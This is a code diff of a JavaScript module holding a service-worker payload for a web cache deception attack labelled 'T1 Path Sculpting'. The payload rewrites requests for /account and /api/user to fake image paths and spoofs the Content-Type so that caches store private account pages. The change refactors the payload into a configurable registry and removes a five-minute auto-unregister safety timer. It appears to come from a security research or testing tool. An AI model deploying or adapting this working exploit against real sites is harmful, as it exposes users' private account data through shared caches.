@@ -1,54 +1,41 @@
-// T1: Path Sculpting Attack - Complete implementation
-const T1_PATH_SCULPTING = `
-// Service Worker: T1 Path Sculpting Attack
+// T1: Path Sculpting Attack - payload definition for sw/registry.js
 // Targets: /account, /api/user
 // Technique: URL rewriting + Content-Type spoofing
-
-const ATTACK_CONFIG = {
-  targetPaths: ['/account', '/api/user'],
-  deceptiveExtensions: ['.jpg', '.png', '.css', '.js'],
-  contentTypes: {
-    '.jpg': 'image/jpeg',
-    '.png': 'image/png', 
-    '.css': 'text/css',
-    '.js': 'application/javascript'
-  }
-};
-
-console.log('[SW-WCD-T1] Path Sculpting activated');
-
-self.addEventListener('install', (event) => {
-  console.log('[SW-WCD-T1] Installing');
-  event.waitUntil(self.skipWaiting());
-});
-
-self.addEventListener('activate', (event) => {
-  console.log('[SW-WCD-T1] Activating and claiming clients');
-  event.waitUntil(clients.claim());
-});
-
+const T1_PATH_SCULPTING = {
+  type: 't1-path-sculpting',
+  tag: 'T1',
+  name: 'Path Sculpting',
+  defaults: {
+    targetPaths: ['/account', '/api/user'],
+    deceptiveExtensions: ['.jpg'],
+    cacheSuffix: 'sw-wcd-cache',
+    contentTypes: {
+      '.jpg': 'image/jpeg',
+      '.png': 'image/png',
+      '.css': 'text/css',
+      '.js': 'application/javascript'
+    }
+  },
+  fetchHandler: `
 self.addEventListener('fetch', (event) => {
   const url = new URL(event.request.url);
   const pathname = url.pathname;
-  
-  // Check if this is a target path
-  const isTarget = ATTACK_CONFIG.targetPaths.some(target => 
-    pathname === target || pathname.startsWith(target + '/')
-  );
-  
-  if (isTarget && !ATTACK_CONFIG.deceptiveExtensions.some(ext => pathname.endsWith(ext))) {
-    console.log('[SW-WCD-T1] Intercepting target:', pathname);
-    
-    // Select random deceptive extension
+
+  if (isTargetPath(pathname) && !ATTACK_CONFIG.deceptiveExtensions.some(ext => pathname.endsWith(ext))) {
+    console.log(LOG_PREFIX, 'Intercepting target:', pathname);
+
+    // Select deceptive extension (random when several are configured)
     const ext = ATTACK_CONFIG.deceptiveExtensions[
       Math.floor(Math.random() * ATTACK_CONFIG.deceptiveExtensions.length)
     ];
-    
-    const deceptivePath = pathname + '/sw-wcd-cache' + ext;
+
+    const deceptivePath = pathname + '/' + ATTACK_CONFIG.cacheSuffix + ext;
     const deceptiveURL = url.origin + deceptivePath + url.search;
-    
-    console.log('[SW-WCD-T1] Rewriting to:', deceptivePath);
-    
+
+    console.log(LOG_PREFIX, 'Rewriting to:', deceptivePath);
+    const rewrite = { originalUrl: url.href, rewrittenUrl: deceptiveURL };
+    reportEvent('intercept', rewrite);
+
     const modifiedRequest = new Request(deceptiveURL, {
       method: event.request.method,
       headers: event.request.headers,
@@ -56,27 +43,29 @@ self.addEventListener('fetch', (event) => {
       mode: 'cors',
       redirect: 'follow'
     });
-    
+
     event.respondWith(
       fetch(modifiedRequest)
         .then(response => {
+          reportEvent('response', { ...rewrite, responseStatus: response.status });
+
           if (!response.ok) {
             throw new Error(\`HTTP \${response.status}\`);
           }
-          
+
           return response.text().then(body => {
             // Create modified response with spoofed headers
             const modifiedHeaders = new Headers(response.headers);
-            
+
             // Critical: Remove cookies, set spoofed Content-Type
             modifiedHeaders.delete('Set-Cookie');
-            modifiedHeaders.set('Content-Type', ATTACK_CONFIG.contentTypes[ext]);
+            modifiedHeaders.set('Content-Type', ATTACK_CONFIG.contentTypes[ext] || 'application/octet-stream');
             modifiedHeaders.set('X-SW-WCD-Attack', 'T1-Path-Sculpting');
             modifiedHeaders.set('X-SW-WCD-Original-Path', pathname);
             modifiedHeaders.set('X-SW-WCD-Modified-Path', deceptivePath);
-            
-            console.log('[SW-WCD-T1] Response modified with spoofed Content-Type');
-            
+
+            console.log(LOG_PREFIX, 'Response modified with spoofed Content-Type');
+
             return new Response(body, {
               status: response.status,
               statusText: response.statusText,
@@ -85,19 +74,15 @@ self.addEventListener('fetch', (event) => {
           });
         })
         .catch(error => {
-          console.error('[SW-WCD-T1] Attack failed:', error);
+          console.error(LOG_PREFIX, 'Attack failed:', error);
+          reportEvent('fallback', { ...rewrite, error: error.message });
           // Fallback to original request
           return fetch(event.request);
         })
     );
   }
 });
-
-// Safety: Auto-unregister after 5 minutes
-setTimeout(() => {
-  self.registration.unregister().then(success => {
-    console.log('[SW-WCD-T1] Safety auto-unregister:', success);
-  });
-}, 300000);`;
+`
+};
 
 export { T1_PATH_SCULPTING };
\ No newline at end of file